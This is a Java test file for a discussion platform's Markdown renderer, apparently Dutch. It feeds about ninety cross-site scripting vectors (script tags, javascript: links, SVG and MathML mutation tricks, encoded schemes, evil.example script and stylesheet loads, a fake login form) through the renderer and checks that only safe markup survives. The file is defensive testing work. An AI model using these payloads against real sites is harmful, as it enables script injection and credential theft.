package nl.leerkring.discussions.markup;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.time.Duration;
import java.time.Instant;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.stream.Stream;
import nl.leerkring.web.Language;
import nl.leerkring.web.Ui;
import nl.leerkring.web.Visitor;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** What people type is shown and never runs. The vectors are of the kinds that OWASP and DOMPurify collect, written anew for Markdown. */
class MarkdownTests {

    private static final Set<String> ELEMENTS = Set.of("p", "br", "strong", "em", "del", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "a", "table", "thead",
            "tbody", "tr", "th", "td");
    private static final Set<String> ATTRIBUTES = Set.of("a href", "a rel", "ol start");

    /** One on a line; {@code ⏎} is a line break, {@code ␀} a NUL, {@code ⇥} a tab. */
    private static final String VECTORS = """
            <script>alert(1)</script>
            <SCRIPT SRC=//evil.example/x.js></SCRIPT>
            <scr<script>ipt>alert(1)</scr</script>ipt>
            <img src=x onerror=alert(1)>
            <IMG \"""><SCRIPT>alert(1)</SCRIPT>">
            <img src="javascript:alert(1)">
            <img src=`javascript:alert(1)`>
            <img/src="x"/onerror=alert(1)>
            <svg onload=alert(1)>
            <svg><script>alert(1)</script></svg>
            <svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>klik</text></a></svg>
            <svg><style><img src=x onerror=alert(1)></style></svg>
            <svg><animate attributeName=href values=javascript:alert(1)></svg>
            <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
            <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
            <math><mi//xlink:href="data:x,<script>alert(1)</script>">
            <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
            <iframe src="javascript:alert(1)"></iframe>
            <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
            <object data="javascript:alert(1)"></object>
            <embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
            <body onload=alert(1)>
            <base href="https://evil.example/">
            <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
            <link rel=stylesheet href=https://evil.example/x.css>
            <style>@import 'https://evil.example/x.css';</style>
            <div style="background:url(javascript:alert(1))">x</div>
            <p style="position:fixed;inset:0">over alles heen</p>
            <a href="javascript:alert(1)">klik</a>
            <a href="jav&#x09;ascript:alert(1)">klik</a>
            <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">klik</a>
            <a href=" &#14; javascript:alert(1)">klik</a>
            <a href="vbscript:msgbox(1)">klik</a>
            <a href="data:text/html,<script>alert(1)</script>">klik</a>
            <a target=_blank href="https://evil.example">zonder rel</a>
            <form action="https://evil.example"><input name=wachtwoord><button>Log in</button></form>
            <button formaction="javascript:alert(1)">klik</button>
            <input autofocus onfocus=alert(1)>
            <details open ontoggle=alert(1)>x</details>
            <video><source onerror=alert(1)></video>
            <marquee onstart=alert(1)>x</marquee>
            <select><template><script>alert(1)</script></template></select>
            <noscript><p title="</noscript><img src=x onerror=alert(1)>">
            <textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
            <!--<img src="--><img src=x onerror=alert(1)//">
            <![CDATA[<img src=x onerror=alert(1)>]]>
            <?xml-stylesheet href="javascript:alert(1)"?>
            <div id="inhoud"><p id=f-tekst name=cookie>naam van een ander ding</p></div>
            <a name=getElementById>klem</a><form name=body></form>
            <x onclick=alert(1) data-module="../../evil" data-hx-get="/uitloggen" hx-on:load="alert(1)">x</x>
            [klik](javascript:alert(1))
            [klik](JaVaScRiPt:alert(1))
            [klik](<java⏎script:alert(1)>)
            [klik](javascript&colon;alert(1))
            [klik](&#x6A;avascript:alert(1))
            [klik](%6Aavascript:alert(1))
            [klik](\\javascript:alert(1))
            [klik](java⇥script:alert(1))
            [klik](vbscript:x "titel")
            [klik](data:text/html;base64,PHNjcmlwdD4=)
            [klik](file:///etc/passwd)
            [klik](https://veilig.example "onmouseover=alert(1) x=")
            [klik](https://veilig.example/"onmouseover="alert(1))
            [klik](https://veilig.example/@{019a0000-0000-7000-8000-000000000000}"x=)
            [a]: javascript:alert(1)⏎⏎[a]
            <javascript:alert(1)>
            <https://veilig.example/"onclick=alert(1)>
            ![x](javascript:alert(1))
            ![x](https://evil.example/spoor.gif)
            ![](https://evil.example/spoor.gif)
            ![<img src=x onerror=alert(1)>](x)
            [![x](https://evil.example/p.png)](javascript:alert(1))
            ![[binnen](javascript:alert(1))](https://evil.example/p.png)
            `<script>alert(1)</script>`
            ```html"onload=alert(1)⏎<script>alert(1)</script>⏎```
            ~~~ <img/src/onerror=alert(1)>⏎x⏎~~~
            # <svg/onload=alert(1)>
            # kop⏎⏎Kop⏎===
            > <iframe src=javascript:alert(1)>
            - <img src=x onerror=alert(1)>
            | <b onclick=alert(1)>a</b> | b |⏎|---|---|⏎| <script>1</script> | [x](javascript:1) |
            99999999999. <img src=x onerror=1>
            www.evil.example/<script>alert(1)</script>
            https://evil.example/?q="><script>alert(1)</script>
            noor@evil.example"onmouseover=alert(1)
            ␀<scr␀ipt>alert(1)</script>
            ＜script＞alert(1)＜/script＞
            &lt;script&gt;alert(1)&lt;/script&gt;
            <@{019a0000-0000-7000-8000-000000000000} onclick=alert(1)>
            """;

    static Stream<String> vectors() {
        return VECTORS.lines().map(line -> line.replace('⏎', '\n').replace('␀', '\0').replace('⇥', '\t'));
    }

    @Test
    void there_are_many() {
        assertThat(vectors()).hasSizeGreaterThanOrEqualTo(80);
    }

    @ParameterizedTest
    @MethodSource("vectors")
    void hostile_text_is_shown_and_does_nothing(String vector) {
        harmless(vector);
        harmless("Dit zei **ik**:\n\n" + vector + "\n\nen verder");
        harmless("> - " + vector.replace("\n", "\n>   "));
        harmless("*" + vector + "*");
    }

    private static void harmless(String text) {
        String html = html(text);
        for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
            if (element.tagName().equals("body")) {
                continue;
            }
            assertThat(ELEMENTS).as(html).contains(element.tagName());
            element.attributes().forEach(attribute -> assertThat(ATTRIBUTES).as(html).contains(element.tagName() + " " + attribute.getKey()));
            if (element.hasAttr("href")) {
                String href = element.attr("href").strip().toLowerCase(Locale.ROOT);
                assertThat(href).as(html).doesNotContain("script:").doesNotMatch("(?s)^[^/?#]*[\\x00-\\x20][^/?#]*:.*");
                assertThat(href.replaceAll("[/?#].*", "")).as(html).matches("|https?:|mailto:.*|[^:]*");
                assertThat(element.attr("rel")).as(html).contains("noopener", "nofollow");
            }
        }
        assertThat(html.toLowerCase(Locale.ROOT)).doesNotContain("<script", "<img", "<svg", "<iframe", "<style", "<form");
    }

    @Test
    void what_is_meant_is_there() {
        assertThat(html("**vet** en *schuin* en ~~weg~~\nregel")).isEqualTo("<p><strong>vet</strong> en <em>schuin</em> en <del>weg</del><br />\nregel</p>\n");
        assertThat(html("- een\n- twee\n\n3. drie")).contains("<ul>", "<li>een</li>", "<ol start=\"3\">");
        assertThat(html("| a | b |\n|---|---|\n| 1 | 2 |")).contains("<table>", "<th>a</th>", "<td>2</td>");
        assertThat(html("zie www.rivm.nl en https://platform31.nl.")).contains("href=\"http://www.rivm.nl\"", "href=\"https://platform31.nl\"");
        assertThat(html("[#12](?bericht=12#b12)")).contains("href=\"?bericht&#61;12#b12\"");
        assertThat(Jsoup.parse(html("    code < hier\n")).text()).isEqualTo("code < hier");
        assertThat(Jsoup.parse(html("een <b>vet</b> woord & meer")).text()).isEqualTo("een <b>vet</b> woord & meer");
    }

    @Test
    void a_heading_is_a_bold_line_and_a_picture_a_link() {
        assertThat(html("# Kop *schuin*")).isEqualTo("<p><strong>Kop <em>schuin</em></strong></p>\n");
        assertThat(html("![kaart](https://rivm.nl/k.png)")).contains("<a href=\"https://rivm.nl/k.png\"", ">kaart</a>").doesNotContain("<img");
        assertThat(html("![](https://rivm.nl/k.png)")).contains(">https://rivm.nl/k.png</a>");
        assertThat(html("[![kaart](https://rivm.nl/k.png)](https://rivm.nl)")).contains("<em>kaart</em>");
    }

    @Test
    void who_is_mentioned_stands_there_by_her_name_now_and_who_left_does_not() {
        UUID noor = UUID.fromString("019a0000-0000-7000-8000-000000000000");
        assertThat(Markdown.html(ui(), "Dag @{" + noor + "}, en @{" + noor + "}.", Map.of(noor, "Noor <b> van Groningen")))
                .isEqualTo("<p>Dag <strong>&#64;Noor &lt;b&gt; van Groningen</strong>, en <strong>&#64;Noor &lt;b&gt; van Groningen</strong>.</p>\n");
        assertThat(Jsoup.parse(html("Dag @{" + noor + "}")).text()).isEqualTo("Dag @oud-deelnemer");
        assertThat(Jsoup.parse(html("`@{" + noor + "}`")).text()).isEqualTo("@{" + noor + "}");
    }

    /** Text that is made to keep a parser busy, or to go deeper than the stack. */
    @Test
    void text_that_is_made_to_be_slow_is_not() {
        for (String piece : new String[] {">", "- ", "*a", "**a ", "_", "[", "![", "](", "[a](", "`", "```\n", "<", "<!--", "&", "~~", "|", "|-", "\\", "@{", "<a ", "[^1]: ", "1. ", "((", "[]", "*_"}) {
            Instant began = Instant.now();
            harmless(piece.repeat(10_000 / piece.length()));
            assertThat(Duration.between(began, Instant.now())).as(piece).isLessThan(Duration.ofSeconds(5));
        }
    }

    @Test
    void addresses_are_addresses() {
        for (Element link : Jsoup.parse(html("https://rivm.nl/a_b?c=d&e=f#g <https://platform31.nl/x(y)> <noor@groningen.example>")).select("a")) {
            assertThat(URI.create(link.attr("href"))).isNotNull();
        }
    }

    private static String html(String text) {
        return Markdown.html(ui(), text, Map.of());
    }

    private static Ui ui() {
        return new Ui(new Ui.Screen(Language.NL, null, null, "", "", "", false, null, Visitor.Theme.AUTO, Instant.EPOCH));
    }
}
